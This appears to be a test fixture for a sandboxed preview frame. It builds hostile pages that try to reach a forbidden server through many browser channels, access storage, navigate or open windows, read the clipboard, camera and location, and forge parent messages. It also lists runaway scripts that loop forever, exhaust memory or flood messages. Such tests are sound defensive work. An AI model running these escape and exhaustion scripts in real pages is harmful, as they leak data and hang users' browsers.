const buildPage = (script: string, head = "") => `<!DOCTYPE html><head>${head}</head><h1>Hostile</h1>
<script>
const attempts = [];
const attempt = (name, act) => attempts.push(Promise.race([
  (async () => act())().then((value) => value ? name : null, () => null),
  new Promise((done) => setTimeout(done, 1500, null)),
]));
${script}
Promise.all(attempts).then((names) => console.log("reached: " + names.filter(Boolean).join()));
</script>`;

/**
 * Artifacts that try to leave the frame. `url` is a server that no request may reach. Each one writes `reached: ` to its
 * console, with the names of the attempts that succeeded.
 */
export const createHostileArtifacts = (url: string): Record<string, string> => {
  const target = JSON.stringify(url);
  return {
    network: buildPage(
      `const url = ${target};
attempt("fetch", () => fetch(url + "/fetch", { mode: "no-cors" }));
attempt("own server", () => fetch("/api/session", { mode: "no-cors" }));
attempt("request", () => new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open("GET", url); r.send(); }).then(() => true));
attempt("beacon", () => navigator.sendBeacon(url + "/beacon", "x") && false);
attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(url.replace("http", "ws")); s.onopen = yes; s.onerror = no; }).then(() => true));
attempt("events", () => new Promise((yes, no) => { const s = new EventSource(url + "/events"); s.onopen = yes; s.onerror = no; }).then(() => true));
attempt("transport", () => new WebTransport("https://localhost:1/").ready.then(() => true));
attempt("picture", () => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = url + "/picture"; }).then(() => true));
attempt("style", () => { document.body.style.backgroundImage = "url(" + url + "/style)"; });
attempt("font", () => new FontFace("x", "url(" + url + "/font)").load());
attempt("sound", () => new Audio(url + "/sound").play().then(() => true));
attempt("module", () => import(url + "/module.js"));
attempt("script", () => new Promise((yes, no) => { const s = document.createElement("script"); s.onload = yes; s.onerror = no; s.src = url + "/script"; document.head.append(s); }).then(() => true));
attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "/worker', { mode: 'no-cors' }).then(() => postMessage(1))"]))); w.onmessage = yes; w.onerror = no; }).then(() => true));
attempt("imported script", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["importScripts('" + url + "/imported'); postMessage(1)"]))); w.onmessage = yes; w.onerror = no; }).then(() => true));
for (const rel of ["preconnect", "dns-prefetch", "prefetch", "preload", "modulepreload", "stylesheet", "icon", "manifest"]) {
  const link = document.createElement("link"); link.rel = rel; link.as = "script"; link.href = url + "/" + rel; document.head.append(link);
}`,
      `<link rel="preconnect" href="${url}"><link rel="stylesheet" href="${url}/a.css"><meta http-equiv="refresh" content="0;url=${url}/refresh"><base href="${url}">`,
    ),
    peers:
      buildPage(`attempt("connection", () => typeof RTCPeerConnection !== "undefined" || typeof webkitRTCPeerConnection !== "undefined");
addEventListener("message", ({ data }) => { if (data?.peers) attempts.push(Promise.resolve(data.peers)); });
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const code = "parent.postMessage({ peers: typeof RTCPeerConnection }, '*')";
const frame = (change) => { const f = document.createElement("iframe"); change(f); document.body.append(f); return f; };
attempt("empty frame", () => frame(() => {}).contentWindow.RTCPeerConnection);
attempt("empty frame by index", () => { frame(() => {}); return window[0].RTCPeerConnection; });
frame((f) => { f.srcdoc = "<script src='" + blob(code, "text/javascript") + "'></scr" + "ipt>"; });
frame((f) => { f.srcdoc = "<script>" + code + "</scr" + "ipt>"; });
frame((f) => { f.src = blob("<script>" + code + "</scr" + "ipt>", "text/html"); });
frame((f) => { f.src = "data:text/html,<script>" + code + "</scr" + "ipt>"; });
attempt("wait", () => new Promise((done) => setTimeout(done, 1000, false)));`),
    storage: buildPage(`attempt("cookie", () => { document.cookie = "a=b"; return document.cookie; });
attempt("database", () => new Promise((yes, no) => { const open = indexedDB.open("x"); open.onsuccess = yes; open.onerror = no; }).then(() => true));
attempt("cache", () => caches.open("x"));
attempt("files", () => navigator.storage.getDirectory());
attempt("kept storage", () => { const before = localStorage.getItem("kept"); localStorage.setItem("kept", "1"); return before; });
attempt("service worker", () => navigator.serviceWorker.register("/preview/frame.js"));`),
    "other windows": buildPage(`const url = ${target};
attempt("top", () => { top.location = url + "/top"; return true; });
attempt("parent", () => { parent.location.href = url + "/parent"; return true; });
attempt("parent's page", () => parent.document.body);
attempt("neighbour", () => parent.frames[1].document.body);
attempt("popup", () => window.open(url + "/popup"));
attempt("link", () => { const a = document.createElement("a"); a.href = url + "/link"; a.target = "_blank"; document.body.append(a); a.click(); return false; });
attempt("form", () => { const f = document.createElement("form"); f.action = url + "/form"; f.method = "post"; f.target = "_top"; document.body.append(f); f.submit(); return false; });
attempt("dialog", () => confirm("x"));
attempt("clipboard", () => navigator.clipboard.readText());
attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }));
attempt("place", () => new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no)).then(() => true));
attempt("fullscreen", () => document.body.requestFullscreen().then(() => true));`),
    "forged messages": buildPage(`const { postMessage } = MessagePort.prototype;
MessagePort.prototype.postMessage = function (...values) { return postMessage.apply(this, values); };
for (const message of ["preview-frame-ready", null, { type: "run" }, { type: "error", message: "forged" }, { type: "rendered" }, { type: "pong", id: 1 }]) parent.postMessage(message, "*");
const { port1, port2 } = new MessageChannel();
parent.postMessage("preview-frame-ready", "*", [port2]);
port1.onmessage = () => attempts.push(Promise.resolve("port"));
attempt("wait", () => new Promise((done) => setTimeout(done, 500, false)));`),
  };
};

/** What a button does to leave its page or to block the browser, and what the person is told. */
export const createRunaways = (url: string) =>
  [
    {
      name: "navigates",
      script: `location.href = "${url}/self";`,
      told: "The preview tried to open another page, so it was closed.",
    },
    {
      name: "reloads",
      script: `location.href = "/preview.html?secret";`,
      told: "The preview tried to open another page, so it was closed.",
    },
    {
      name: "floods",
      script: `setInterval(() => { for (let i = 0; i < 3000; i += 1) parent.postMessage(i, "*"); }, 20)`,
      told: "The preview sent too many messages, so it was closed.",
    },
    {
      name: "loops",
      script: `for (;;);`,
      told: "The preview stopped responding, so it was closed.",
    },
    {
      name: "takes all memory",
      script: `const all = []; for (;;) all.push(new Array(1e6).fill(Math.random()));`,
      told: "The preview stopped responding, so it was closed.",
    },
  ] as const;
